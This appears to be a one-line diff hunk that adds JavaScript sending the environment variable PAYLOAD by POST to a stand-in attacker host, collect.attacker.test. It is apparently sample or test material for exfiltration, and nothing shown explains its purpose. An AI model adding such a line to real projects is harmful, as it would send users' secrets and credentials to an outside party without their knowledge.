@@ -1,0 +1,1 @@
+fetch("https://collect.attacker.test", { method: "POST", body: process.env.PAYLOAD });
